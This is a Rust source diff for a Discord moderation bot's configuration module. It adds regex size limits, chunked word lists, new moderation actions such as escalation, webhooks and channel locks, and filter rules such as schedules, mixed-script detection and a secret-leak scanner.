@@ -4,29 +4,103 @@ use std::{
     path::{Path, PathBuf},
 };
 
-use eyre::{Context, Result};
+use chrono::{NaiveTime, Weekday};
+use chrono_tz::Tz;
+use eyre::Result;
 use serde::Deserialize;
 
+use twilight_model::channel::message::ReactionType;
 use twilight_model::id::{
-    marker::{ChannelMarker, EmojiMarker, GuildMarker, RoleMarker, StickerMarker},
+    marker::{
+        ChannelMarker, EmojiMarker, GuildMarker, RoleMarker, StickerMarker, UserMarker,
+        WebhookMarker,
+    },
     Id,
 };
 
-use regex::{Regex, RegexBuilder, RegexSet};
+use once_cell::sync::OnceCell;
+use regex::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
+
+static REGEX_LIMITS: OnceCell<RegexLimits> = OnceCell::new();
+
+/// Sets the limits every regex in guild configurations is compiled with. Only
+/// the first call has any effect; until then, the defaults are used.
+pub fn set_regex_limits(limits: RegexLimits) {
+    let _ = REGEX_LIMITS.set(limits);
+}
+
+fn regex_limits() -> RegexLimits {
+    REGEX_LIMITS.get().copied().unwrap_or_default()
+}
+
+static GUILD_ENV_VARS: OnceCell<Vec<String>> = OnceCell::new();
+
+/// Sets which environment variables guild configurations may read through
+/// `${NAME}` placeholders. Only the first call has any effect; until then,
+/// guild configurations can't read any.
+pub fn set_guild_env_vars(names: Vec<String>) {
+    let _ = GUILD_ENV_VARS.set(names);
+}
+
+fn guild_env_vars() -> &'static [String] {
+    GUILD_ENV_VARS.get().map_or(&[], Vec::as_slice)
+}
+
+fn build_regex(pattern: &str) -> Result<Regex, regex::Error> {
+    let limits = regex_limits();
+    RegexBuilder::new(pattern)
+        .size_limit(limits.size_limit)
+        .dfa_size_limit(limits.dfa_size_limit)
+        .build()
+}
+
+/// Describes why `pattern` couldn't be compiled.
+fn regex_error(pattern: &str, err: regex::Error) -> String {
+    match err {
+        regex::Error::CompiledTooBig(limit) => {
+            let pattern: String = pattern.chars().take(50).collect();
+            format!(
+                "the pattern `{}` is too large to compile (limit is {} bytes); raise regex_limits.size_limit if it's intended",
+                pattern, limit
+            )
+        }
+        err => format!("unable to construct regex: {}", err),
+    }
+}
+
+/// Deserializes a list of patterns into regexes, compiled within the
+/// configured size limits.
+fn deserialize_regexes<'de, D>(de: D) -> Result<Vec<Regex>, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    let patterns = Vec::<String>::deserialize(de)?;
+    patterns
+        .iter()
+        .map(|p| build_regex(p).map_err(|err| serde::de::Error::custom(regex_error(p, err))))
+        .collect()
+}
+
+fn deserialize_optional_regexes<'de, D>(de: D) -> Result<Option<Vec<Regex>>, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    deserialize_regexes(de).map(Some)
+}
 
-fn deserialize_regex_pattern<'de, D>(de: D) -> Result<String, D::Error>
+fn deserialize_regex_patterns<'de, D>(de: D) -> Result<Vec<String>, D::Error>
 where
     D: serde::Deserializer<'de>,
 {
     struct RegexVisitor;
     impl<'de> serde::de::Visitor<'de> for RegexVisitor {
-        type Value = String;
+        type Value = Vec<String>;
 
         fn expecting(&self, formatter: &mut std::fmt::Formatter) -> std::fmt::Result {
             formatter.write_str("word list")
         }
 
-        fn visit_seq<V>(self, mut seq: V) -> Result<String, V::Error>
+        fn visit_seq<V>(self, mut seq: V) -> Result<Vec<String>, V::Error>
         where
             V: serde::de::SeqAccess<'de>,
         {
@@ -35,63 +109,255 @@ where
                 words.push(regex::escape(&word));
             }
 
-            let pattern = words.join("|");
-            Ok(pattern)
+            Ok(words)
         }
     }
 
     de.deserialize_seq(RegexVisitor)
 }
 
-/// Deserializes a list of strings into a single regex that matches any of those
-/// words, capturing the matching word. This allows for more performant matching
-/// because the regex engine is better at doing this kind of test than we are.
-fn deserialize_word_regex<'de, D>(de: D) -> Result<Regex, D::Error>
+/// A list of words compiled into as few regexes as possible. Usually this is a
+/// single regex matching any of the words, since the regex engine is better at
+/// this kind of test than we are. Lists too large to compile into one regex are
+/// split into chunks that are tried in order.
+#[derive(Debug)]
+pub struct PatternList {
+    regexes: Vec<Regex>,
+    /// Each chunk anchored to both ends of the text, for
+    /// [`PatternList::whole_captures`].
+    whole: Vec<Regex>,
+}
+
+impl PatternList {
+    fn compile(
+        patterns: &[String],
+        wrap: fn(&str) -> String,
+        case_insensitive: bool,
+    ) -> Result<Self, String> {
+        let mut regexes = Vec::new();
+        let mut whole = Vec::new();
+        compile_chunk(patterns, wrap, case_insensitive, &mut regexes, &mut whole)?;
+
+        if regexes.len() > 1 {
+            tracing::debug!(
+                patterns = patterns.len(),
+                chunks = regexes.len(),
+                "Split oversized word list into chunks"
+            );
+        }
+
+        Ok(Self { regexes, whole })
+    }
+
+    pub fn captures<'t>(&self, text: &'t str) -> Option<regex::Captures<'t>> {
+        self.regexes.iter().find_map(|r| r.captures(text))
+    }
+
+    pub fn is_match(&self, text: &str) -> bool {
+        self.regexes.iter().any(|r| r.is_match(text))
+    }
+
+    /// Like [`PatternList::captures`], but only for a match spanning all of
+    /// `text`. Any pattern that spans it counts, even if another pattern
+    /// would match a shorter part of it first.
+    pub fn whole_captures<'t>(&self, text: &'t str) -> Option<regex::Captures<'t>> {
+        self.whole.iter().find_map(|r| r.captures(text))
+    }
+
+    #[cfg(test)]
+    pub(crate) fn chunks(&self) -> &[Regex] {
+        &self.regexes
+    }
+}
+
+impl From<Regex> for PatternList {
+    fn from(regex: Regex) -> Self {
+        let whole = build_regex(&anchor(regex.as_str())).expect("couldn't anchor regex");
+        Self {
+            regexes: vec![regex],
+            whole: vec![whole],
+        }
+    }
+}
+
+/// `pattern`, matching only all of the text.
+fn anchor(pattern: &str) -> String {
+    format!("\\A(?:{})\\z", pattern)
+}
+
+/// Compiles `patterns` into one regex, and the same regex anchored to both
+/// ends of the text, halving the list and trying again if either exceeds the
+/// regex size limit.
+fn compile_chunk(
+    patterns: &[String],
+    wrap: fn(&str) -> String,
+    case_insensitive: bool,
+    regexes: &mut Vec<Regex>,
+    whole: &mut Vec<Regex>,
+) -> Result<(), String> {
+    let mut pattern = wrap(&patterns.join("|"));
+    if case_insensitive {
+        pattern.insert_str(0, "(?i)");
+    }
+
+    match build_regex(&pattern).and_then(|regex| Ok((build_regex(&anchor(&pattern))?, regex))) {
+        Ok((anchored, regex)) => {
+            regexes.push(regex);
+            whole.push(anchored);
+            Ok(())
+        }
+        Err(regex::Error::CompiledTooBig(limit)) => {
+            if patterns.len() <= 1 {
+                let word: String = patterns.concat().chars().take(50).collect();
+                return Err(format!(
+                    "the word `{}` is too large to compile on its own (limit is {} bytes)",
+                    word, limit
+                ));
+            }
+
+            let (first, second) = patterns.split_at(patterns.len() / 2);
+            compile_chunk(first, wrap, case_insensitive, regexes, whole)?;
+            compile_chunk(second, wrap, case_insensitive, regexes, whole)
+        }
+        Err(err) => Err(format!("unable to construct regex: {}", err)),
+    }
+}
+
+/// Deserializes a list of strings into a pattern list that matches any of
+/// those words on word boundaries, capturing the matching word.
+fn deserialize_word_regex<'de, D>(de: D) -> Result<PatternList, D::Error>
 where
     D: serde::Deserializer<'de>,
 {
-    let pattern = deserialize_regex_pattern(de);
+    let patterns = deserialize_regex_patterns(de)?;
+    compile_words(&patterns, true).map_err(serde::de::Error::custom)
+}
 
-    match pattern {
-        Ok(mut pattern) => {
-            pattern.insert_str(0, "\\b(");
-            pattern.push_str(")\\b");
-            let regex = RegexBuilder::new(&pattern).case_insensitive(true).build();
+fn compile_words(patterns: &[String], case_insensitive: bool) -> Result<PatternList, String> {
+    PatternList::compile(patterns, |p| format!("\\b({})\\b", p), case_insensitive)
+}
 
-            match regex {
-                Ok(regex) => Ok(regex),
-                Err(err) => Err(serde::de::Error::custom(format!(
-                    "unable to construct regex: {}",
-                    err
-                ))),
-            }
-        }
-        Err(e) => Err(e),
+fn deserialize_optional_word_regex<'de, D>(de: D) -> Result<Option<PatternList>, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    deserialize_word_regex(de).map(Some)
+}
+
+/// Deserializes a list of strings into a pattern list that matches any of
+/// those strings anywhere, capturing the matching string.
+fn deserialize_substring_regex<'de, D>(de: D) -> Result<PatternList, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    let patterns = deserialize_regex_patterns(de)?;
+    compile_substrings(&patterns, true).map_err(serde::de::Error::custom)
+}
+
+fn compile_substrings(patterns: &[String], case_insensitive: bool) -> Result<PatternList, String> {
+    PatternList::compile(patterns, |p| p.to_owned(), case_insensitive)
+}
+
+fn default_case_insensitive() -> bool {
+    true
+}
+
+/// Deserializes a `words` rule, compiling its words with its casing.
+fn deserialize_words_rule<'de, D>(de: D) -> Result<(PatternList, bool, bool), D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    #[derive(Deserialize)]
+    struct WordsRule {
+        #[serde(deserialize_with = "deserialize_regex_patterns")]
+        words: Vec<String>,
+        #[serde(default)]
+        whole_message_only: bool,
+        #[serde(default = "default_case_insensitive")]
+        case_insensitive: bool,
     }
+
+    let rule = WordsRule::deserialize(de)?;
+    let words =
+        compile_words(&rule.words, rule.case_insensitive).map_err(serde::de::Error::custom)?;
+
+    Ok((words, rule.whole_message_only, rule.case_insensitive))
 }
 
-fn deserialize_substring_regex<'de, D>(de: D) -> Result<Regex, D::Error>
+/// Deserializes a `substring` rule, compiling its substrings with its casing.
+fn deserialize_substring_rule<'de, D>(de: D) -> Result<(PatternList, bool, bool), D::Error>
 where
     D: serde::Deserializer<'de>,
 {
-    let pattern = deserialize_regex_pattern(de);
+    #[derive(Deserialize)]
+    struct SubstringRule {
+        #[serde(deserialize_with = "deserialize_regex_patterns")]
+        substrings: Vec<String>,
+        #[serde(default)]
+        whole_message_only: bool,
+        #[serde(default = "default_case_insensitive")]
+        case_insensitive: bool,
+    }
 
-    match pattern {
-        Ok(pattern) => {
-            let regex = RegexBuilder::new(&pattern).case_insensitive(true).build();
+    let rule = SubstringRule::deserialize(de)?;
+    let substrings = compile_substrings(&rule.substrings, rule.case_insensitive)
+        .map_err(serde::de::Error::custom)?;
 
-            match regex {
-                Ok(regex) => Ok(regex),
-                Err(err) => Err(serde::de::Error::custom(format!(
-                    "unable to construct regex: {}",
-                    err
-                ))),
-            }
+    Ok((substrings, rule.whole_message_only, rule.case_insensitive))
+}
+
+/// Flags to compile a `regex` rule's patterns with, as an alternative to inline
+/// flags like `(?i)`.
+#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+#[serde(default, deny_unknown_fields)]
+pub struct RegexFlags {
+    pub case_insensitive: bool,
+    /// `^` and `$` match at the start and end of each line.
+    pub multiline: bool,
+    /// `.` also matches newlines.
+    pub dot_all: bool,
+    /// Unicode-aware character classes and case folding.
+    pub unicode: bool,
+}
+
+impl Default for RegexFlags {
+    fn default() -> Self {
+        Self {
+            case_insensitive: false,
+            multiline: false,
+            dot_all: false,
+            unicode: true,
         }
-        Err(e) => Err(e),
     }
 }
 
+/// Deserializes a `regex` rule, compiling its patterns with its flags.
+fn deserialize_regex_rule<'de, D>(de: D) -> Result<(RegexSet, RegexFlags), D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    #[derive(Deserialize)]
+    struct RegexRule {
+        regexes: Vec<String>,
+        #[serde(default)]
+        flags: RegexFlags,
+    }
+
+    let rule = RegexRule::deserialize(de)?;
+    let limits = regex_limits();
+    let regexes = RegexSetBuilder::new(&rule.regexes)
+        .case_insensitive(rule.flags.case_insensitive)
+        .multi_line(rule.flags.multiline)
+        .dot_matches_new_line(rule.flags.dot_all)
+        .unicode(rule.flags.unicode)
+        .size_limit(limits.size_limit)
+        .dfa_size_limit(limits.dfa_size_limit)
+        .build()
+        .map_err(|err| serde::de::Error::custom(regex_error(&rule.regexes.join("|"), err)))?;
+
+    Ok((regexes, rule.flags))
+}
+
 #[derive(Deserialize, Debug)]
 #[serde(tag = "action", rename_all = "snake_case")]
 pub enum MessageFilterAction {
@@ -102,6 +368,35 @@ pub enum MessageFilterAction {
         channel_id: Id<ChannelMarker>,
         content: String,
         requires_armed: bool,
+        /// If set, repeats of this message in the same channel within this many
+        /// seconds are held back, then counted in one summary message.
+        coalesce_seconds: Option<u64>,
+        /// What to do instead if the message can't be sent.
+        #[serde(default)]
+        on_failure: Option<Box<MessageFilterAction>>,
+    },
+    /// Send a direct message to the user who sent the offending piece of
+    /// content, such as to tell them why it was removed. Users who don't
+    /// accept DMs are skipped.
+    DmUser {
+        content: String,
+        requires_armed: bool,
+    },
+    /// Post a message through a Discord webhook, which has its own rate limit
+    /// instead of sharing the bot's.
+    SendWebhook {
+        /// The webhook's URL, such as
+        /// `https://discord.com/api/webhooks/<ID>/<TOKEN>`.
+        url: String,
+        content: String,
+    },
+    /// Run different actions depending on how many times the user has broken
+    /// this guild's filters recently, such as a warning for a first offense and
+    /// a timeout for a third.
+    Escalate {
+        /// Sorted by ascending threshold. The tier with the highest threshold
+        /// the user's violations reach is run.
+        tiers: Vec<EscalationTier>,
     },
     /// Ban the user who sent the offending piece of content.
     Ban {
@@ -109,20 +404,140 @@ pub enum MessageFilterAction {
         reason: String,
         // The period over which to remove the banned user's messages, in seconds.
         delete_message_seconds: u32,
+        /// What to do instead if the user can't be banned, such as when their
+        /// highest role is above Chrysanthemum's.
+        #[serde(default)]
+        on_failure: Option<Box<MessageFilterAction>>,
     },
     /// Kick the user who sent the offending piece of content.
     Kick {
         reason: String,
+        /// What to do instead if the user can't be kicked.
+        #[serde(default)]
+        on_failure: Option<Box<MessageFilterAction>>,
     },
     /// Timeout the user who sent the offending piece of content.
     Timeout {
         reason: String,
-        /// How long to mute the user for, in seconds.
+        /// How long to mute the user for, in seconds. Discord allows at most
+        /// 28 days; longer timeouts are shortened to that.
+        #[serde(alias = "duration_secs")]
         duration: i64,
+        /// What to do instead if the user can't be timed out.
+        #[serde(default)]
+        on_failure: Option<Box<MessageFilterAction>>,
     },
     SendLog {
         channel_id: Id<ChannelMarker>,
+        /// If set, logs of the same content matching the same filter within
+        /// this many seconds are held back, then counted in one summary
+        /// message. Useful for raids, where many users send the same thing.
+        coalesce_seconds: Option<u64>,
+    },
+    /// Give the user who sent the offending content a role, such as a muted
+    /// role.
+    AddRole {
+        role_id: Id<RoleMarker>,
+        requires_armed: bool,
+    },
+    /// Take a role away from the user who sent the offending content.
+    RemoveRole { role_id: Id<RoleMarker> },
+    /// Stop everyone sending messages in the channel the offending content was
+    /// posted in, restoring its permissions after `duration_seconds`.
+    LockChannel {
+        duration_seconds: u64,
+        /// What to do instead if the channel can't be locked.
+        #[serde(default)]
+        on_failure: Option<Box<MessageFilterAction>>,
     },
+    /// Open a case for the offense in an external case-management system. The
+    /// case is opened in the background; if it can't be, it's skipped.
+    CreateCase {
+        /// The URL to `POST` the case to.
+        endpoint: String,
+        /// Sent as the `Authorization` header, if set.
+        authorization: Option<String>,
+        /// Where to post the new case's ID.
+        log_channel: Option<Id<ChannelMarker>>,
+    },
+    /// React to the offending message, such as for lighthearted rules where
+    /// deleting it would be too much.
+    React {
+        /// A unicode emoji, or a custom emoji as `name:id`.
+        #[serde(deserialize_with = "deserialize_reaction_emoji")]
+        emoji: ReactionType,
+    },
+}
+
+impl MessageFilterAction {
+    /// The action's name, as written in the configuration.
+    pub fn name(&self) -> &'static str {
+        match self {
+            MessageFilterAction::Delete => "delete",
+            MessageFilterAction::SendMessage { .. } => "send_message",
+            MessageFilterAction::DmUser { .. } => "dm_user",
+            MessageFilterAction::SendWebhook { .. } => "send_webhook",
+            MessageFilterAction::Escalate { .. } => "escalate",
+            MessageFilterAction::Ban { .. } => "ban",
+            MessageFilterAction::Kick { .. } => "kick",
+            MessageFilterAction::Timeout { .. } => "timeout",
+            MessageFilterAction::SendLog { .. } => "send_log",
+            MessageFilterAction::LockChannel { .. } => "lock_channel",
+            MessageFilterAction::CreateCase { .. } => "create_case",
+            MessageFilterAction::AddRole { .. } => "add_role",
+            MessageFilterAction::RemoveRole { .. } => "remove_role",
+            MessageFilterAction::React { .. } => "react",
+        }
+    }
+
+    /// What to do if this action fails.
+    pub fn on_failure(&self) -> Option<&MessageFilterAction> {
+        match self {
+            MessageFilterAction::SendMessage { on_failure, .. }
+            | MessageFilterAction::Ban { on_failure, .. }
+            | MessageFilterAction::Kick { on_failure, .. }
+            | MessageFilterAction::Timeout { on_failure, .. }
+            | MessageFilterAction::LockChannel { on_failure, .. } => on_failure.as_deref(),
+            MessageFilterAction::Delete
+            | MessageFilterAction::DmUser { .. }
+            | MessageFilterAction::SendWebhook { .. }
+            | MessageFilterAction::Escalate { .. }
+            | MessageFilterAction::SendLog { .. }
+            | MessageFilterAction::CreateCase { .. }
+            | MessageFilterAction::AddRole { .. }
+            | MessageFilterAction::RemoveRole { .. }
+            | MessageFilterAction::React { .. } => None,
+        }
+    }
+
+    /// What to do if this action fails, mutably.
+    fn on_failure_mut(&mut self) -> Option<&mut MessageFilterAction> {
+        match self {
+            MessageFilterAction::SendMessage { on_failure, .. }
+            | MessageFilterAction::Ban { on_failure, .. }
+            | MessageFilterAction::Kick { on_failure, .. }
+            | MessageFilterAction::Timeout { on_failure, .. }
+            | MessageFilterAction::LockChannel { on_failure, .. } => on_failure.as_deref_mut(),
+            MessageFilterAction::Delete
+            | MessageFilterAction::DmUser { .. }
+            | MessageFilterAction::SendWebhook { .. }
+            | MessageFilterAction::Escalate { .. }
+            | MessageFilterAction::SendLog { .. }
+            | MessageFilterAction::CreateCase { .. }
+            | MessageFilterAction::AddRole { .. }
+            | MessageFilterAction::RemoveRole { .. }
+            | MessageFilterAction::React { .. } => None,
+        }
+    }
+}
+
+/// One step of an `escalate` action.
+#[derive(Deserialize, Debug)]
+pub struct EscalationTier {
+    /// How many violations, counting the current one, the user needs within
+    /// the guild's `escalation_decay_seconds` for this tier to run.
+    pub threshold: usize,
+    pub actions: Vec<MessageFilterAction>,
 }
 
 #[derive(Deserialize, Debug)]
@@ -139,28 +554,170 @@ pub struct Scoping {
     pub exclude_channels: Option<Vec<Id<ChannelMarker>>>,
     /// Which channels to include.
     pub include_channels: Option<Vec<Id<ChannelMarker>>>,
+    /// Which categories to exclude the channels of.
+    pub exclude_categories: Option<Vec<Id<ChannelMarker>>>,
+    /// Which categories to include the channels of.
+    pub include_categories: Option<Vec<Id<ChannelMarker>>>,
     /// Which roles to exclude.
     pub exclude_roles: Option<Vec<Id<RoleMarker>>>,
+    /// Which roles to include. Authors need at least one of them.
+    pub include_roles: Option<Vec<Id<RoleMarker>>>,
+    /// How old an account can get before the filter stops applying to it, in
+    /// seconds. Taken from the account's ID, so no lookup is needed.
+    pub min_account_age_secs: Option<u64>,
+    /// When the filter is active. Always active if omitted.
+    pub schedule: Option<Schedule>,
+}
+
+/// A set of weekly time windows in a particular timezone.
+#[derive(Deserialize, Debug)]
+pub struct Schedule {
+    /// An IANA timezone name, like `Europe/London`.
+    #[serde(deserialize_with = "deserialize_timezone")]
+    pub timezone: Tz,
+    /// The windows during which the filter is active.
+    pub windows: Vec<ScheduleWindow>,
+}
+
+#[derive(Deserialize, Debug)]
+pub struct ScheduleWindow {
+    /// When the window starts, as `HH:MM` local time.
+    #[serde(deserialize_with = "deserialize_time")]
+    pub start: NaiveTime,
+    /// When the window ends, as `HH:MM` local time. If this is before `start`,
+    /// the window runs overnight into the next day.
+    #[serde(deserialize_with = "deserialize_time")]
+    pub end: NaiveTime,
+    /// Which days the window starts on, like `mon` or `saturday`. Every day if
+    /// omitted.
+    #[serde(default, deserialize_with = "deserialize_weekdays")]
+    pub days: Option<Vec<Weekday>>,
+}
+
+/// Deserializes file extensions, lowercased and without leading dots.
+fn deserialize_extensions<'de, D>(de: D) -> Result<Vec<String>, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    let extensions = Vec::<Cow<'de, str>>::deserialize(de)?;
+    Ok(extensions
+        .iter()
+        .map(|extension| extension.trim_start_matches('.').to_lowercase())
+        .collect())
+}
+
+fn deserialize_reaction_emoji<'de, D>(de: D) -> Result<ReactionType, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    let emoji = Cow::<'de, str>::deserialize(de)?;
+    parse_reaction_emoji(&emoji).ok_or_else(|| {
+        serde::de::Error::custom(format!(
+            "`{}` is neither a unicode emoji nor a custom emoji like `name:id`",
+            emoji
+        ))
+    })
+}
+
+/// Parses an emoji to react with: a custom emoji as `name:id`, optionally
+/// written the way Discord shows it, like `<:name:id>`, or anything else
+/// without spaces or colons as a unicode emoji.
+pub(crate) fn parse_reaction_emoji(emoji: &str) -> Option<ReactionType> {
+    let emoji = emoji.trim();
+    let (animated, custom) = match emoji.strip_prefix('<').and_then(|e| e.strip_suffix('>')) {
+        Some(mention) => match mention.strip_prefix("a:") {
+            Some(custom) => (true, custom),
+            None => (false, mention.strip_prefix(':').unwrap_or(mention)),
+        },
+        None => (false, emoji),
+    };
+
+    match custom.split_once(':') {
+        Some((name, id)) if !name.is_empty() => Some(ReactionType::Custom {
+            animated,
+            id: id.parse().ok()?,
+            name: Some(name.to_owned()),
+        }),
+        Some(_) => None,
+        None if !emoji.is_empty() && !emoji.contains(char::is_whitespace) => {
+            Some(ReactionType::Unicode {
+                name: emoji.to_owned(),
+            })
+        }
+        None => None,
+    }
+}
+
+fn deserialize_timezone<'de, D>(de: D) -> Result<Tz, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    let name = Cow::<'de, str>::deserialize(de)?;
+    name.parse()
+        .map_err(|_| serde::de::Error::custom(format!("unknown timezone `{}`", name)))
+}
+
+fn deserialize_time<'de, D>(de: D) -> Result<NaiveTime, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    let time = Cow::<'de, str>::deserialize(de)?;
+    NaiveTime::parse_from_str(&time, "%H:%M")
+        .map_err(|_| serde::de::Error::custom(format!("invalid time `{}`, expected HH:MM", time)))
+}
+
+fn deserialize_weekdays<'de, D>(de: D) -> Result<Option<Vec<Weekday>>, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    let days = Vec::<Cow<'de, str>>::deserialize(de)?;
+    days.iter()
+        .map(|day| {
+            day.parse()
+                .map_err(|_| serde::de::Error::custom(format!("unknown day `{}`", day)))
+        })
+        .collect::<Result<_, _>>()
+        .map(Some)
 }
 
 #[derive(Deserialize, Debug)]
 #[serde(tag = "type", rename_all = "snake_case")]
 pub enum MessageFilterRule {
+    #[serde(deserialize_with = "deserialize_words_rule")]
     Words {
         // Note: In the config format, this is an array of strings, not one
         // regex pattern.
-        #[serde(deserialize_with = "deserialize_word_regex")]
-        words: Regex,
+        words: PatternList,
+        /// Only match when one word is the whole message, ignoring surrounding
+        /// whitespace, so the word can still be discussed.
+        whole_message_only: bool,
+        /// Whether `words` ignores casing. Defaults to true.
+        case_insensitive: bool,
     },
+    #[serde(deserialize_with = "deserialize_substring_rule")]
     Substring {
-        #[serde(deserialize_with = "deserialize_substring_regex")]
-        substrings: Regex,
+        substrings: PatternList,
+        /// Only match when one substring is the whole message, ignoring
+        /// surrounding whitespace.
+        whole_message_only: bool,
+        /// Whether `substrings` ignores casing. Defaults to true.
+        case_insensitive: bool,
     },
+    #[serde(deserialize_with = "deserialize_regex_rule")]
     Regex {
-        #[serde(with = "serde_regex")]
         regexes: RegexSet,
+        /// The flags `regexes` were compiled with.
+        flags: RegexFlags,
+    },
+    /// Text corrupted with stacks of combining marks. With neither limit set,
+    /// a fixed set of marks common in zalgo generators is matched.
+    Zalgo {
+        /// How many combining marks there may be per other non-whitespace
+        /// character.
+        max_combining_ratio: Option<f32>,
+        /// How many combining marks there may be in a row.
+        max_combining_run: Option<usize>,
     },
-    Zalgo,
     MimeType {
         mode: FilterMode,
         types: Vec<String>,
@@ -168,14 +725,50 @@ pub enum MessageFilterRule {
         /// the case, what do we do? This field controls this behavior - we can
         /// either ignore it, or reject it out of an abundance of caution.
         allow_unknown: bool,
+        /// Whether to download the start of attachments and detect their
+        /// type from their contents, rather than trusting the type Discord
+        /// picked from the file extension. Attachments that can't be
+        /// detected keep Discord's type, or fall back to `allow_unknown`.
+        #[serde(default)]
+        sniff: bool,
     },
+    /// Attachments by file extension, for clients that don't send MIME types.
+    AttachmentExtension {
+        mode: FilterMode,
+        /// Compared case-insensitively; a leading dot is optional.
+        #[serde(deserialize_with = "deserialize_extensions")]
+        extensions: Vec<String>,
+    },
+    /// Attachments larger than `max_bytes`.
+    AttachmentSize { max_bytes: u64 },
     Invite {
         mode: FilterMode,
         invites: Vec<String>,
+        /// Whether to look up which guild each invite leads to and match that
+        /// against `guilds`, rather than matching the code. Invites that can't
+        /// be looked up are matched against `invites` instead.
+        #[serde(default)]
+        resolve_guilds: bool,
+        #[serde(default)]
+        guilds: Vec<Id<GuildMarker>>,
     },
     Link {
         mode: FilterMode,
         domains: Vec<String>,
+        /// If set, the rule only applies to links on the listed domains whose
+        /// path matches one of these patterns. An allow-list then allows only
+        /// those paths, and a deny-list denies only those paths.
+        #[serde(default, deserialize_with = "deserialize_optional_regexes")]
+        path_patterns: Option<Vec<Regex>>,
+        /// If set, the pages behind links that pass the domain check are
+        /// fetched, and their preview title and description are checked for
+        /// these words.
+        #[serde(default, deserialize_with = "deserialize_optional_word_regex")]
+        preview_words: Option<PatternList>,
+        /// Whether subdomains of the listed domains are matched too, so
+        /// `example.com` also matches `login.example.com`.
+        #[serde(default)]
+        match_subdomains: bool,
     },
     StickerId {
         mode: FilterMode,
@@ -185,14 +778,119 @@ pub enum MessageFilterRule {
         // Note: In the config format, this is an array of strings, not one
         // regex pattern.
         #[serde(deserialize_with = "deserialize_substring_regex")]
-        stickers: Regex,
+        stickers: PatternList,
+        /// Also match the sticker's description and tags. These aren't sent
+        /// with messages, so they're fetched (and cached) when needed.
+        #[serde(default)]
+        include_metadata: bool,
     },
     EmojiName {
         // Note: In the config format, this is an array of strings, not one
         // regex pattern.
         #[serde(deserialize_with = "deserialize_substring_regex")]
-        names: Regex,
+        names: PatternList,
+    },
+    /// Filter messages carrying interactive components (buttons, select menus).
+    /// Regular users can't send these, so a non-bot message with any components
+    /// is always rejected; bot and webhook messages may carry up to `max`.
+    HasComponents { max: usize },
+    /// Filter system messages, such as join or boost announcements, of the
+    /// given types. No other rule applies to system messages.
+    SystemMessage { types: Vec<SystemMessageType> },
+    /// Filter users who post in a channel again less than `seconds` after
+    /// their last message there, regardless of the channel's slowmode.
+    MinInterval { seconds: u64 },
+    /// Filter users with at least `count` infractions on record. Needs the
+    /// global `infractions` store; without it, this never matches.
+    PriorInfractions { count: usize },
+    /// Filter messages that mention or reply to any of these users. Combine
+    /// it with other rules using a `score_threshold` to only catch, say, slurs
+    /// aimed at someone being harassed.
+    ProtectedUsers { users: Vec<Id<UserMarker>> },
+    /// Filter messages longer than `chars` characters. If set, each newline
+    /// counts as `count_newlines_as` characters instead of one, so tall
+    /// messages can be caught too.
+    MaxLength {
+        chars: usize,
+        count_newlines_as: Option<usize>,
+    },
+    /// Filter messages of at least `min_length` characters where more than
+    /// `max_uppercase_ratio` of the letters are uppercase. Anything that isn't
+    /// a letter is ignored.
+    Capitalization {
+        max_uppercase_ratio: f32,
+        min_length: usize,
     },
+    /// Filter messages with more than `max_count` invisible characters, or
+    /// any if it's unset. These are U+200B zero width space, U+200C zero
+    /// width non-joiner, U+200D zero width joiner, U+2060 word joiner and
+    /// U+FEFF zero width no-break space, which can split a word without
+    /// changing how it looks. Joiners in emoji sequences aren't counted.
+    InvisibleChars { max_count: Option<usize> },
+    /// Filter messages with a word of at least `min_length` characters that
+    /// mixes letters from different scripts, such as Latin and Cyrillic in
+    /// `pаypal`. Words in different scripts side by side are fine.
+    MixedScript { min_length: usize },
+    /// Filter messages where a character repeats more than `max_run` times in
+    /// a row. Characters are counted with their combining marks, and emoji
+    /// with their modifiers and joined parts. Whitespace isn't counted.
+    RepeatedChars { max_run: usize },
+    /// Filter messages containing secrets that any of `presets` recognize.
+    /// Secrets are redacted from logs of messages this rule matches.
+    SecretScan { presets: Vec<SecretPreset> },
+    /// Filter single messages that mention more than this many distinct
+    /// users, roles, or both together. `@everyone` and `@here` aren't counted.
+    MentionCount {
+        max_users: Option<u8>,
+        max_roles: Option<u8>,
+        max_total: Option<u8>,
+    },
+    /// Filter messages that `rule` doesn't match, such as messages without a
+    /// link to an allowed domain.
+    Not { rule: Box<MessageFilterRule> },
+}
+
+/// Kinds of secret a `secret_scan` rule can look for.
+#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum SecretPreset {
+    /// Discord bot and user tokens.
+    DiscordToken,
+    /// AWS access key IDs.
+    AwsAccessKey,
+    /// Strings of 32 or more letters, digits and base64 punctuation that look
+    /// random, such as API keys. Hex digests aren't random enough to count.
+    HighEntropy,
+}
+
+/// Kinds of message Discord posts itself, as named in the configuration.
+#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum SystemMessageType {
+    UserJoin,
+    Pin,
+    /// Any boost announcement, including ones for reaching a new level.
+    GuildBoost,
+    ThreadCreated,
+    ChannelFollow,
+}
+
+/// A rule in a message filter, along with how much it contributes to the
+/// filter's score when the filter uses weighted scoring.
+#[derive(Deserialize, Debug)]
+pub struct WeightedRule {
+    #[serde(flatten)]
+    pub rule: MessageFilterRule,
+    /// How much this rule contributes to the filter's score when it matches.
+    /// Only used if the filter has a `score_threshold`; defaults to 1. Must
+    /// not be negative.
+    pub weight: Option<f32>,
+}
+
+impl From<MessageFilterRule> for WeightedRule {
+    fn from(rule: MessageFilterRule) -> Self {
+        WeightedRule { rule, weight: None }
+    }
 }
 
 #[derive(Deserialize, Debug, Default)]
@@ -201,6 +899,10 @@ pub struct SpamFilter {
     pub emoji: Option<u8>,
     /// How many duplicates in a given interval constitute spam.
     pub duplicates: Option<u8>,
